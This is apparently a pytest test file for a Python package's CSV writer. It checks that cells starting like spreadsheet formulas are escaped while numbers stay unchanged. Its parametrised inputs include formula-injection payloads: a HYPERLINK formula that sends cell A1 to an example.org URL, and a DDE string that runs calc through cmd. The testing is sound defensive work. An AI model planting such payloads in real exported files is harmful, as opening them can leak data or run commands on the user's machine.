"""No CSV holds text that a spreadsheet would run; numbers stay what they are."""

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from radii.rs_core.results.csv_text import STARTS, csv_text

LINK = '=HYPERLINK("http://example.org/?" & A1, "open")'


@pytest.mark.parametrize(
    "text", [LINK, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1", "-", "=1"]
)
def test_text_that_begins_like_a_formula_is_escaped(text: str) -> None:
    assert read(csv_text([("a", text)])) == [["a", "'" + text.replace("\r", "\n")]]


@pytest.mark.parametrize("value", [-1, -0.5, 1e-300, float("-inf"), True, None, "-1", "+0.25", "a=b", "", "1 2 3", "é"])
def test_numbers_and_other_text_stay_as_they_are(value: object) -> None:
    assert read(csv_text([(value,)])) == ([["" if value is None else str(value)]])


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8")), min_size=1, max_size=4)))
def test_no_cell_begins_like_a_formula_unless_it_is_a_number(rows: list[list[str]]) -> None:
    for row in read(csv_text([("head",), *rows])):
        for cell in row:
            if cell.startswith(STARTS):
                float(cell)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_every_table_of_names_from_outside_is_escaped() -> None:
    from radii.rs_core.comparisons.alignment import run_of
    from radii.rs_core.comparisons.compare import compare
    from radii.rs_core.comparisons.text import comparison_csv
    from radii.rs_core.evaluate.records import EvaluationRecord
    from radii.rs_core.records import Certificate
    from radii.rs_core.results.codec import csv_lines

    one = Certificate(
        index=0, label=1, prediction=1, radius=0.5, p_lower=0.9, counts0=(0, 9), counts=(0, 9), n0=9, n=9,
        sigma=0.25, alpha=0.001, seed=1,
    )  # fmt: skip
    rows = [replace(one, index=index) for index in range(3)]
    made = comparison_csv(compare([run_of(LINK, rows), run_of("-cmd|x", rows)]))
    cells = {cell for row in read(made) for cell in row}
    assert {"'" + LINK, "'-cmd|x"} < cells and not {LINK, "-cmd|x"} & cells
    failed = EvaluationRecord(index=0, label=1, found=(), seed=1, seconds=0.0, error=LINK)
    assert read("".join(csv_lines(EvaluationRecord, [failed])))[1][-1] == "'" + LINK
